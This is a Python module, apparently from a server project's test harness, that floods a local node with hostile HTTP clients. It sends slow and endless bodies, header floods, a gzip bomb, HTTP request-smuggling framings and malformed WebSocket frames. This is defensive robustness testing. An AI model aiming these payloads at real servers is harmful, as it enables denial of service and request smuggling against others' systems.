"""What hostile clients do to one node: a program over bare sockets.

NETWORK. Run as `python -m proving.attacks KIND PORT COUNT SEED`; it goes on until its input ends.
The first line that it prints says that every connection stands; its connections end with it.
"""

from __future__ import annotations

import errno
import gzip
import resource
import selectors
import socket
import sys
import threading
from collections.abc import Callable, Iterator
from contextlib import suppress
from random import Random

from proving.program import when_input_ends

READ_WHOLE = b"GET /logs HTTP/1.1\r\nHost: x\r\n\r\n"
FOLLOW = b"GET /logs/stream?from=1 HTTP/1.1\r\nHost: x\r\n\r\n"
POST = b"POST /logs HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
UPGRADE = (
    b"GET /replication HTTP/1.1\r\nHost: x\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n"
    b"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n"
)
PIECE = b"x" * (64 * 1024)
CHUNK = b"%x\r\n%b\r\n" % (len(PIECE), PIECE)
GIB = 1 << 30

ANSWERED = frozenset({"smuggled", "gzip-bombs"})
"""What is answered at once, and whose clients say then that they have no more to ask."""

Bytes = Iterator[bytes]
"""What one client sends, piece by piece; b"" waits a moment."""


def _slowly(head: bytes, piece: bytes) -> Bytes:
    yield head
    while True:
        yield from (b"",) * 25  # half a second
        yield piece


def _for_ever(head: bytes, piece: bytes) -> Bytes:
    yield head
    while True:
        yield piece


def _once(*data: bytes) -> Bytes:
    yield from data


def _bomb() -> bytes:
    """10 MiB of zeros many times over: some KB that would become 100 MiB."""
    body = gzip.compress(b"\0" * (10 << 20)) * 10
    return POST + b"Content-Encoding: gzip\r\nContent-Length: %d\r\n\r\n" % len(body) + body


def _smuggled(random: Random) -> bytes:
    """One request whose end two readers may see in two places, and another behind it."""
    inner = b'{"message":"smuggled"}'
    hidden = POST + b"Content-Length: %d\r\n\r\n%b" % (len(inner), inner)
    chunked = b"0\r\n\r\n" + hidden
    framings = (
        b"Content-Length: %d\r\nTransfer-Encoding: chunked\r\n" % len(chunked),
        b"Transfer-Encoding: chunked\r\nContent-Length: %d\r\n" % len(chunked),
        b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n",
        b"Transfer-Encoding: xchunked\r\nContent-Length: 5\r\n",
        b"Transfer-Encoding : chunked\r\nContent-Length: %d\r\n" % len(chunked),
        b"Transfer-Encoding:\x0bchunked\r\nContent-Length: %d\r\n" % len(chunked),
        b"Content-Length: 5\r\nContent-Length: %d\r\n" % len(chunked),
        b"Content-Length: 5, %d\r\n" % len(chunked),
        b"Content-Length: +5\r\n",
        b"Content-Length: 0x5\r\n",
        b"Content-Length: -1\r\n",
        b" Content-Length: 5\r\nTransfer-Encoding: chunked\r\n",
    )
    return POST + random.choice(framings) + b"\r\n" + chunked


def _stranger(random: Random) -> Bytes:
    """A WebSocket to the place of the links, and what no node says."""
    frames = (
        b"",
        b"\x81\xfe\x00",
        b"\x82\xff" + (40 << 20).to_bytes(8, "big") + b"mask" + PIECE,
        b"\x82\xff" + (1 << 62).to_bytes(8, "big") + b"mask",
        b"\x81\x85mask" + b"hello",
        b"\x01\x85mask" + b"hello",
        b"\x89\xfdmask" + b"p" * 125,
        b"\xff\xff\xff\xff",
    )
    frame = random.choice(frames)
    if frame[:1] == b"\x89":
        return _for_ever(UPGRADE, frame * 100)
    return _once(UPGRADE, frame)


def scripts(kind: str, random: Random) -> Bytes:
    """Return what one client of the attack `kind` sends."""
    makers: dict[str, Callable[[], Bytes]] = {
        "declared-bodies": lambda: _for_ever(POST + b"Content-Length: %d\r\n\r\n" % GIB, PIECE),
        "chunked-bodies": lambda: _for_ever(POST + b"Transfer-Encoding: chunked\r\n\r\n", CHUNK),
        "slow-bodies": lambda: _slowly(POST + b"Content-Length: 900000\r\n\r\n", b"x"),
        "tiny-chunks": lambda: _for_ever(
            POST + b"Transfer-Encoding: chunked\r\n\r\n", b"1;%b\r\nx\r\n" % (b"e" * 500)
        ),
        "gzip-bombs": lambda: _once(_bomb()),
        "half-heads": lambda: _once((POST + b"X: " + b"x" * 200)[: random.randint(1, 280)]),
        "half-bodies": lambda: _once(POST + b"Content-Length: 65536\r\n\r\n" + PIECE[:32_768]),
        "header-floods": lambda: _for_ever(b"GET /logs HTTP/1.1\r\n", b"X: %b\r\n" % (b"y" * 8000)),
        "stopped-readers": lambda: _once(READ_WHOLE),
        "stopped-followers": lambda: _once(FOLLOW),
        "idle": _once,
        "pipelines": lambda: _for_ever(READ_WHOLE, READ_WHOLE * 50),
        "smuggled": lambda: _once(_smuggled(random)),
        "strangers": lambda: _stranger(random),
    }
    return makers[kind]()


class Client:
    """One connection, from which nothing is ever read."""

    def __init__(self, port: int, script: Bytes) -> None:
        self.socket = socket.socket()
        self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 16 * 1024)
        self.socket.setblocking(False)  # noqa: FBT003 - its only parameter
        with suppress(BlockingIOError):
            self.socket.connect(("127.0.0.1", port))
        self._script = script
        self._left = b""

    def send(self) -> bool:
        """Send what it takes now; return whether it has more to send."""
        try:
            if not self._left:
                self._left = next(self._script)
                if not self._left:
                    return True  # it waits a moment
            self._left = self._left[self.socket.send(self._left) :]
        except (StopIteration, ConnectionError):
            return False
        except BlockingIOError:
            pass
        return True


def attack(kind: str, port: int, count: int, seed: int, ending: threading.Event) -> None:
    random = Random(seed)
    selector = selectors.DefaultSelector()
    clients: list[Client] = []
    while len(clients) < count and not ending.is_set():
        try:
            client = Client(port, scripts(kind, random))
        except OSError as error:
            if error.errno not in {errno.EAGAIN, errno.EADDRNOTAVAIL}:
                raise
            ending.wait(0.01)
            continue
        clients.append(client)
        selector.register(client.socket, selectors.EVENT_WRITE, client)
        if len(clients) % 100 == 0:
            _turn(selector, kind)
            ending.wait(0.02)  # the backlog of one node is 2,048
    print(len(clients), flush=True)
    while not ending.is_set():
        _turn(selector, kind)
        ending.wait(0.02)


def _turn(selector: selectors.BaseSelector, kind: str) -> None:
    if not selector.get_map():
        return
    for key, _ in selector.select(0):
        client = key.data
        if not client.send():
            selector.unregister(client.socket)
            if kind in ANSWERED:  # else it would be an idle connection
                with suppress(OSError):
                    client.socket.shutdown(socket.SHUT_WR)


def main() -> None:
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    kind, port, count, seed = sys.argv[1:]
    attack(kind, int(port), int(count), int(seed), when_input_ends())


if __name__ == "__main__":
    main()
